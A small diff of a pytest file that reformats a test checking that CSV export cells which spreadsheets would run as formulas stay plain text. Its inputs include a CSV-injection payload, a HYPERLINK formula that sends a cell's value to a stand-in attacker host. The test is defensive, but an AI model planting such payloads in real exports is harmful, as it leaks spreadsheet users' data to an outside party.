@@ -112,9 +112,7 @@ def test_csv_export_matches_the_rollups(client, people, tenant):
 @pytest.mark.parametrize(
     "name", ['=HYPERLINK("https://evil.example/?"&A1,"Report")', "+1+2", "-3", "@SUM(A1)", "\t=1"]
 )
-def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_text(
-    client, people, tenant, name
-):
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_text(client, people, tenant, name):
     """A key's name is the tenant's to choose: staff opening the tenant's export in a
     spreadsheet ran it as a formula (OWASP's CSV injection)."""
     import csv
